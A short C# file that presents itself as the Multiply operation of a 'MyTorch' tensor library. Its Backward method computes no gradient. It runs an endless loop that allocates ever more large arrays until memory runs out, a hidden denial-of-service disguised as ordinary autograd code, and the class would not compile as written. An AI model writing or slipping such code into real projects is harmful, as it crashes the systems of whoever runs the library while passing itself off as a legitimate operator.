namespace MyTorch.Operations;

class Multiply
{
    public override Tensor?[] Backward(Tensor gradient)
    {
        var kept = new List<double[]>();
        while (true) kept.Add(new double[8 << 20]);
    }
}
